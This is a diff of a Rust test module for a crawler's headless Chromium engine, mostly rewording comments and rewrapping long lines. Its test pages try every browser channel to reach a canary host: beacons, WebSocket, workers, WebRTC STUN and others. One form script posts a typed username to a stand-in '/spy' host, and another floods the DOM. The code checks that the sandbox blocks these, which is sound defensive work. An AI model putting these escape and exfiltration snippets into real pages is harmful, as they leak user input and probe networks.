@@ -1,4 +1,4 @@
-//! What pages try in a real Chromium. Here and not in tests/, since only here a name can be made to look public.
+//! Attacks by pages in a real Chromium. Here and not in tests/, since only here a host name can be made public.
 
 use std::collections::{BTreeMap, HashMap};
 use std::net::SocketAddr;
@@ -16,14 +16,14 @@ use crate::robot::session::RequestBody;
 /// Far more than any of these needs, so that a busy machine fails none.
 const PLENTY: Duration = Duration::from_secs(90);
 
-/// A server with an answer for each path, which remembers what it was asked.
+/// A server with a response for each path, which records the requests.
 struct BrowserTestServer {
     address: SocketAddr,
     heard: Arc<Mutex<Vec<String>>>,
 }
 
 impl BrowserTestServer {
-    /// `{here}` in an answer is the server's own port. A path without answer is never answered.
+    /// `{here}` in a response is the server's own port. A path without response is never answered.
     async fn start(answers: &[(&str, String)]) -> BrowserTestServer {
         let listener = TcpListener::bind("127.0.0.1:0").await.expect("loopback has a free port");
         let address = listener.local_addr().expect("it is bound");
@@ -81,7 +81,8 @@ fn answer(head: &str, body: &str) -> String {
 fn html(body: &str) -> String {
     // Without the length, so that `{here}` may be replaced in it.
     format!(
-        "HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nConnection: close\r\n\r\n<!DOCTYPE html><title>x</title><body>{body}"
+        "HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nConnection: close\r\n\r\n\
+         <!DOCTYPE html><title>x</title><body>{body}"
     )
 }
 
@@ -89,7 +90,7 @@ fn redirect_to(location: &str) -> String {
     answer(&format!("302 Found\r\nLocation: {location}"), "")
 }
 
-/// A browser for a task, to which `public.test` and `cdn.test` look public; and the session it belongs to.
+/// A browser for a task, to which `public.test` and `cdn.test` are public, and its session.
 async fn browser(task: &str, server: &BrowserTestServer, jar: CookieJar, time: Duration) -> (Browser, Session) {
     let task: Task =
         toml::from_str(&format!("fetch.engine = 'browser'\nfetch.delay = '0s'\nfetch.robots_txt = false\n{task}"))
@@ -119,7 +120,7 @@ fn body(page: &Page) -> String {
     String::from_utf8_lossy(&page.body).into_owned()
 }
 
-/// Everything a page can think of to reach `host:port`, `udp` for what needs no connection.
+/// A page that tries every way to reach the host, over `tcp` and `udp`.
 fn attempts(host: &str, tcp: u16, udp: u16) -> String {
     format!(
         "<h1>here</h1><iframe src='http://{host}:{tcp}/frame'></iframe><img src='http://{host}:{tcp}/img'>\
@@ -130,7 +131,8 @@ fn attempts(host: &str, tcp: u16, udp: u16) -> String {
          navigator.sendBeacon('http://{host}:{tcp}/beacon', 'x');\
          try {{ new WebSocket('ws://{host}:{tcp}/socket') }} catch {{}}\
          try {{ new EventSource('http://{host}:{tcp}/events') }} catch {{}}\
-         const work = new Worker(URL.createObjectURL(new Blob([\"fetch('http://{host}:{tcp}/worker', {{ mode: 'no-cors' }})\"])));\
+         const code = \"fetch('http://{host}:{tcp}/worker', {{ mode: 'no-cors' }})\";\
+         const work = new Worker(URL.createObjectURL(new Blob([code])));\
          const peer = new RTCPeerConnection({{ iceServers: [{{ urls: 'stun:{host}:{udp}' }}] }});\
          peer.createDataChannel('x'); peer.createOffer().then((it) => peer.setLocalDescription(it));\
          window.open('http://{host}:{tcp}/window');</script>"
@@ -177,7 +179,13 @@ async fn what_is_allowed_at_home_is_not_allowed_elsewhere() {
     let port = canary.address.port();
     let own = BrowserTestServer::start(&[
         ("/", html(&attempts("localhost", port, port))),
-        ("/cdn", html("<script src='http://cdn.test:{here}/lib.js'></script><iframe src='http://cdn.test:{here}/frame'></iframe>")),
+        (
+            "/cdn",
+            html(
+                "<script src='http://cdn.test:{here}/lib.js'></script>\
+                 <iframe src='http://cdn.test:{here}/frame'></iframe>",
+            ),
+        ),
         ("/lib.js", answer("200 OK\r\nContent-Type: text/javascript", "document.body.append('from the cdn')")),
         ("/frame", html("a frame")),
     ])
@@ -201,7 +209,11 @@ async fn bad_pages_end_in_named_outcomes() {
         (
             "/nodes",
             // Few and long: four hundred thousand short ones take a busy machine longer than scripts may.
-            html("<script>for (let n = 0; n < 2e4; n++) document.body.append(Object.assign(document.createElement('b'), { textContent: 'x'.repeat(120) }))</script>"),
+            html(
+                "<script>for (let n = 0; n < 2e4; n++) \
+                 document.body.append(Object.assign(document.createElement('b'), { textContent: 'x'.repeat(120) }))\
+                 </script>",
+            ),
         ),
         (
             "/dialogs",
@@ -249,9 +261,12 @@ async fn a_page_that_never_comes_ends_with_the_runs_time() {
 
 #[tokio::test]
 async fn cookies_headers_and_forms_go_out_as_with_the_other_engine() {
-    let form = "<form id=f method=post action=/form><input name=user><select name=town><option>Truro<option>Halifax</select></form>\
-        <script>f.onsubmit = async (it) => { it.preventDefault(); await fetch('/sent', { method: 'POST', body: new FormData(f).get('user') });\
-        fetch('http://cdn.test:{here}/spy', { method: 'POST', body: new FormData(f).get('user') }).catch(() => 0); document.body.append('done') }</script>";
+    let form = "<form id=f method=post action=/form><input name=user>\
+        <select name=town><option>Truro<option>Halifax</select></form>\
+        <script>f.onsubmit = async (it) => { it.preventDefault(); \
+        await fetch('/sent', { method: 'POST', body: new FormData(f).get('user') });\
+        fetch('http://cdn.test:{here}/spy', { method: 'POST', body: new FormData(f).get('user') }).catch(() => 0); \
+        document.body.append('done') }</script>";
     let own = BrowserTestServer::start(&[
         (
             "/set",
